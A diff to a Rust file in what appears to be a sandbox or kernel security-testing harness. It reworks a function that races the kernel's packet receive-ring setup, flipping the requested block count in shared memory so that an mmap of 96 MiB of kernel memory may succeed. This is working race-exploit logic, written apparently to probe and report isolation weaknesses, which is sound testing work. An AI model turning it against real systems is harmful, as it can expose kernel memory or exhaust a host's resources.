@@ -1,9 +1,10 @@
 //! Rings that packets are received in, or sent from.
 
-use std::sync::atomic::{AtomicBool, AtomicPtr, Ordering};
+use std::sync::atomic::{AtomicPtr, Ordering};
 
 use crate::{
     attacker::{Attacker, SOL_PACKET, contains},
+    race::{Raced, race},
     row::{Outcome, Seen},
     sys::native,
     world::{BODY, CW0},
@@ -100,46 +101,44 @@ pub(super) fn ring_race(a: &mut Attacker) -> Outcome {
     const BLOCK: u32 = 1 << 20;
     const FRAMES_OF_BLOCK: u32 = BLOCK / 2048;
     const MANY: u32 = 96;
-    const ROUNDS: usize = 40;
+    const SIZE: u64 = BLOCK as u64 * MANY as u64;
+    // Without anybody who reads before the kernel does, each try has many blocks in one of four.
+    const TRIES: usize = 200;
     let socket = a.capture()?;
     let request = a.memory.put(&ring_of(BLOCK, 1, 2048));
     let none = a.memory.zeros(16);
     let place = usize::try_from(request).unwrap_or(0);
     let [blocks, frames] =
         [4, 12].map(|at| AtomicPtr::new(std::ptr::with_exposed_provenance_mut::<u32>(place + at)));
-    let done = AtomicBool::new(false);
-    let mut made = 0;
-    let mut won = false;
-    std::thread::scope(|scope| {
-        scope.spawn(|| {
-            let [blocks, frames] = [&blocks, &frames].map(|at| at.load(Ordering::Relaxed));
-            while !done.load(Ordering::Relaxed) {
-                for count in [1, MANY] {
-                    // SAFETY: within the request, which only the kernel and the agent read.
-                    unsafe { std::ptr::write_volatile(blocks, count) };
-                    // SAFETY: as above.
-                    unsafe { std::ptr::write_volatile(frames, count * FRAMES_OF_BLOCK) };
-                }
+    let change = |step: usize| {
+        let [blocks, frames] = [&blocks, &frames].map(|at| at.load(Ordering::Relaxed));
+        let count = if step.is_multiple_of(2) { MANY } else { 1 };
+        // SAFETY: within the request, which only the kernel and the agent read.
+        unsafe { std::ptr::write_volatile(blocks, count) };
+        // SAFETY: as above.
+        unsafe { std::ptr::write_volatile(frames, count * FRAMES_OF_BLOCK) };
+    };
+    let (mut made, mut short_of_memory) = (0, false);
+    let raced = race(TRIES, change, || {
+        match a.set_at(socket, SOL_PACKET, RX_RING, request, 16) {
+            Ok(_) => made += 1,
+            Err(errno) => {
+                short_of_memory |= errno == libc::ENOMEM;
+                return false;
             }
-        });
-        for _ in 0..ROUNDS {
-            if a.set_at(socket, SOL_PACKET, RX_RING, request, 16).is_err() {
-                continue;
-            }
-            made += 1;
-            let size = u64::from(BLOCK) * u64::from(MANY);
-            if native(libc::SYS_mmap, [0, size, 3, 1, socket, 0]).is_ok() {
-                won = true;
-                break;
-            }
+        }
+        let large = native(libc::SYS_mmap, [0, SIZE, 3, 1, socket, 0]).is_ok();
+        if !large {
             let _ = a.set_at(socket, SOL_PACKET, RX_RING, none, 16);
         }
-        done.store(true, Ordering::Relaxed);
+        large
     });
-    match (won, made) {
-        (true, _) => Seen::won("96 MiB of the kernel's memory"),
+    match raced {
+        Raced::Won => Seen::won("96 MiB of the kernel's memory"),
+        Raced::OutOfTime => Seen::broken("the race took too long"),
         // A host without so much memory proves nothing.
-        (false, 0) if !a.world.governed => Err(libc::ENOMEM),
-        (false, _) => Seen::nothing("no ring became too large"),
+        Raced::Lost if !a.world.governed && short_of_memory => Err(libc::ENOMEM),
+        Raced::Lost if made == 0 => Seen::broken("no ring was made at all"),
+        Raced::Lost => Seen::nothing("no ring became too large"),
     }
 }
